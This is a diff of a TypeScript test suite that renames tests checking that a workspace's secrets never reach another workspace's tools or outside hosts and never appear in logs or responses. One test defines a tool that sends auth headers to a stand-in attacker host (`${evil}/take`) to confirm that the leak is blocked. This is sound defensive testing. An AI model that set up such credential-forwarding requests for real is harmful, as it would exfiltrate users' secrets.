@@ -57,7 +57,7 @@ async function putSecret(key: string, host: string): Promise<void> {
 }
 
 describe('a secret of one workspace', () => {
-  it('never leaves for a tool of another, whatever that one names or stores', async () => {
+  it('is never sent for a tool of another, whatever that one names or stores', async () => {
     const [mine, theirs] = [await foreignKey('leave-mine'), await foreignKey('leave-theirs')]
     await putSecret(mine, given)
     await upsertTool('theirs', { method: 'GET', url: `http://${given}/theirs`, headers: AUTH }, {}, theirs)
@@ -83,7 +83,7 @@ describe('a secret of one workspace', () => {
     ])
   })
 
-  it('never leaves for another host: by a definition, by a redirect, or by what an input says', async () => {
+  it('is never sent to another host: by a definition, a redirect, or an input', async () => {
     const key = await foreignKey('leave-hosts')
     await putSecret(key, given)
     await upsertTool('away', { method: 'GET', url: `http://${evil}/take`, headers: AUTH }, {}, key)
@@ -111,8 +111,8 @@ describe('a secret of one workspace', () => {
   })
 })
 
-describe('a secret that a request brings', () => {
-  it('reaches its tool after a yes, and is in no row, event, log, prompt, file, receipt or answer of a route', async () => {
+describe('a secret in a request', () => {
+  it('reaches its tool after an approval, and is in no row, event, log, prompt, file, receipt or response', async () => {
     const workspace = 'leave-brought'
     const key = await foreignKey(workspace)
     const method = 'POST'
